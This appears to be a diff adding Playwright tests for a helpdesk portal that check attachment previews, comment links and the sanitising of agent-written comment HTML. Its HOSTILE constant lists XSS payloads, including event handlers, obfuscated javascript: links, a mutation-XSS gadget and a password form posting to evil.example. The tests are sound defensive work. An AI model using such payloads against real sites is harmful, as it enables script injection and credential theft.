@@ -1,0 +1,201 @@
+import { AxeBuilder } from '@axe-core/playwright'
+import { type Browser, expect, type Page, test } from '@playwright/test'
+
+import { makePdf } from '#demo/seed/make-pdf.ts'
+import { makePng } from '#demo/seed/make-png.ts'
+import type { Ticket } from '#shared/tickets.ts'
+
+import { portalUrl, signIn, watchConsole } from './sign-in.ts'
+
+const MINA = { email: 'mina.park@northwind.example', name: 'Mina Park' }
+const KATHARINA = { email: 'katharina.vogel@northwind.example', name: 'Katharina Vogel' }
+
+const OWN_FILE = '/api/desk-files/01900000-0000-7000-8000-000000000001?inline=1'
+
+/** What the server would never store: here the page is on its own. */
+const HOSTILE = `
+<script>document.title = 'pwned'</script>
+<p onclick="document.title = 'pwned'" style="position: fixed" class="x" id="root" name="body" title="x">Text</p>
+<img src="x" onerror="document.title = 'pwned'" alt="broken">
+<img src="${OWN_FILE}" srcset="https://evil.example/1.png 2x" id="cookie" name="cookie">
+<img src="https://evil.example/2.png" alt="pixel">
+<a href="javascript:document.title = 'pwned'">one</a>
+<a href=" java&#10;script:document.title = 'pwned'">two</a>
+<a href="data:text/html,<script>1</script>">three</a>
+<a href="/api/auth/logout">four</a>
+<a href="https://good.example/?a=1" target="_self" id="location" ping="https://evil.example">five</a>
+<style>* { display: none }</style>
+<svg><script>document.title = 'pwned'</script><a href="javascript:1"><text>six</text></a></svg>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='pwned'&gt;">
+</table></mtext></math>
+<form action="https://evil.example"><input name="password"><button>seven</button></form>
+<iframe src="https://evil.example">eight</iframe>
+<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
+<template><img src="x" onerror="document.title = 'pwned'"></template>
+<!-- a comment -->
+<h3>Steps</h3><table><tbody><tr><td colspan="2" bgcolor="red">cell</td></tr></tbody></table>`
+
+const HARMLESS = [
+  '<p>Text</p>broken',
+  `<img src="${OWN_FILE}" alt="">`,
+  'pixel one two three four',
+  '<a href="https://good.example/?a=1" target="_blank" rel="noopener noreferrer nofollow">five</a>',
+  '<h4>Steps</h4><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>',
+].join('')
+
+for (const way of ["by the browser's own means", 'without setHTML']) {
+  test(`what an agent wrote does no harm even unsanitised, ${way}`, async ({ page }) => {
+    const requests: string[] = []
+    page.on('request', (request) => requests.push(request.url()))
+    if (way === 'without setHTML') {
+      await page.addInitScript(() => Reflect.deleteProperty(Element.prototype, 'setHTML'))
+    }
+    await signIn(page, KATHARINA)
+    const ticket = await firstPendingTicket(page)
+    const comment = ticket.comments.find(({ isAgent }) => isAgent)
+    if (!comment) throw new Error('nobody has answered yet')
+    comment.content = HOSTILE
+    await page.route(`**/api/tickets/${ticket.id}`, (route) => route.fulfill({ json: ticket }))
+
+    await page.goto(`${portalUrl()}/tickets/${ticket.id}`)
+    const shown = page.locator(`#comment-${comment.id} [class*=_html_]`)
+    await expect(shown.getByRole('link', { name: 'five' })).toBeVisible()
+    const html = await shown.evaluate((element) => {
+      for (const node of element.querySelectorAll('a')) {
+        // In the order of the expected text, whatever order they were written in.
+        for (const name of ['href', 'target', 'rel']) {
+          const value = node.getAttribute(name) ?? ''
+          node.removeAttribute(name)
+          node.setAttribute(name, value)
+        }
+      }
+      return element.innerHTML.replaceAll(/\s*\n\s*/g, ' ')
+    })
+    expect(html.replaceAll(/ (?=<)|(?<=>) | $|^ /g, '')).toBe(HARMLESS)
+    expect(await page.title()).not.toContain('pwned')
+    expect(requests.filter((url) => !url.startsWith(portalUrl()) && !isSignIn(url))).toEqual([])
+    const loaded = requests.some((url) => url.includes('parse-with-dompurify'))
+    expect(loaded).toBe(way === 'without setHTML')
+  })
+}
+
+test('pictures show as thumbnails and open one after the other, a PDF in a frame', async ({
+  page,
+}) => {
+  const errors = watchConsole(page)
+  await signIn(page, MINA)
+  await raiseTicket(page, [
+    aPicture('red.png', [190, 40, 60]),
+    aPicture('blue.png', [40, 92, 160]),
+    { name: 'guide.pdf', mimeType: 'application/pdf', buffer: makePdf('Guide', ['One', 'Two']) },
+    { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('notes') },
+    { name: 'none.png', mimeType: 'image/png', buffer: Buffer.from('not a picture') },
+  ])
+  const red = page.getByRole('link', { name: /red\.png/ })
+  await expect(red.locator('img')).toHaveJSProperty('naturalWidth', 64)
+  // A file that only calls itself a picture is a file like any other.
+  await expect(page.getByRole('link', { name: /none\.png/ })).toHaveAttribute(
+    'download',
+    'none.png',
+  )
+  await expect(page.getByRole('link', { name: /notes\.txt/ })).toHaveAttribute('download')
+
+  await red.click()
+  const dialog = page.getByRole('dialog')
+  await expect(dialog.getByRole('img', { name: 'red.png' })).toHaveJSProperty('naturalWidth', 64)
+  await expect(dialog).toContainText('1 of 3')
+  await page.keyboard.press('ArrowRight')
+  await expect(dialog.getByRole('img', { name: 'blue.png' })).toBeVisible()
+  await page.keyboard.press('ArrowLeft')
+  await page.keyboard.press('ArrowLeft')
+  await expect(dialog).toContainText('3 of 3')
+  const frame = dialog.locator('iframe')
+  await expect(frame).toHaveAttribute('src', /^\/api\/desk-files\/[0-9a-f-]+\?inline=1$/)
+  await expect(frame).toHaveAttribute('title', 'guide.pdf')
+  await expect
+    .poll(() => page.frames().some((one) => one.url().startsWith('chrome-extension://')))
+    .toBe(true)
+  await dialog.getByRole('button', { name: 'Next file' }).click()
+
+  const download = page.waitForEvent('download')
+  await dialog.getByRole('link', { name: 'Download' }).click()
+  expect((await download).suggestedFilename()).toBe('red.png')
+
+  const { violations } = await new AxeBuilder({ page }).include('dialog').analyze()
+  expect(violations.map(({ id }) => id)).toEqual([])
+  await page.keyboard.press('Escape')
+  await expect(dialog).toHaveCount(0)
+  await expect(red).toBeFocused()
+  expect(errors).toEqual([])
+})
+
+test('a link to a comment leads to it and marks it, and each comment gives its own', async ({
+  browser,
+}) => {
+  const page = await aLowWindow(browser)
+  await signIn(page, KATHARINA)
+  const query = new URLSearchParams({ q: 'Somebody clicked the link in a phishing mail' })
+  const [{ id }] = await (await page.request.get(`${portalUrl()}/api/tickets?${query}`)).json()
+  await page.goto(`${portalUrl()}/tickets/${id}`)
+  const comments = page.getByRole('list').locator('> [id^=comment-]')
+  const oldest = comments.last()
+  await oldest.getByRole('button', { name: 'Copy link' }).click()
+  const link = await page.evaluate(() => navigator.clipboard.readText())
+  expect(link).toMatch(new RegExp(`^${portalUrl()}/tickets/${id}#comment-[0-9a-f-]{36}$`))
+
+  const other = await page.context().newPage()
+  await other.goto(link)
+  const linked = other.locator(new URL(link).hash)
+  await expect(linked).toBeInViewport()
+  await expect(linked).toHaveAttribute('aria-current', 'true')
+  await expect(other.locator('[id^=comment-][aria-current]')).toHaveCount(1)
+  await expect(linked).toContainText('Thank you for telling us at once.')
+})
+
+async function firstPendingTicket(page: Page): Promise<Ticket> {
+  const [{ id }] = await (
+    await page.request.get(`${portalUrl()}/api/tickets?status=pending`)
+  ).json()
+  return (await page.request.get(`${portalUrl()}/api/tickets/${id}`)).json()
+}
+
+function isSignIn(url: string): boolean {
+  return new URL(url).hostname === '127.0.0.1'
+}
+
+function aPicture(name: string, ground: [number, number, number]) {
+  return { name, mimeType: 'image/png', buffer: makePng({ width: 64, height: 48, ground }, []) }
+}
+
+type GivenFile = { name: string; mimeType: string; buffer: Buffer }
+
+async function raiseTicket(page: Page, files: GivenFile[]) {
+  const form = new FormData()
+  for (const [name, value] of Object.entries({
+    subject: 'Five files',
+    description: 'See the files.',
+    priority: 'Low',
+    categories: 'GENERAL_INQUIRY',
+  })) {
+    form.set(name, value)
+  }
+  for (const { name, mimeType, buffer } of files) {
+    form.append('attachments', new File([new Uint8Array(buffer)], name, { type: mimeType }))
+  }
+  const { cookies } = await page.context().storageState()
+  const token = cookies.find((cookie) => cookie.name === 'XSRF-TOKEN')?.value ?? ''
+  const answer = await page.request.post(`${portalUrl()}/api/tickets`, {
+    multipart: form,
+    headers: { 'X-XSRF-TOKEN': token },
+  })
+  expect(answer.status(), await answer.text()).toBe(201)
+  await page.goto(`${portalUrl()}/tickets/${(await answer.json()).id}`)
+}
+
+async function aLowWindow(browser: Browser): Promise<Page> {
+  const context = await browser.newContext({
+    viewport: { width: 1024, height: 500 },
+    permissions: ['clipboard-read', 'clipboard-write'],
+  })
+  return context.newPage()
+}
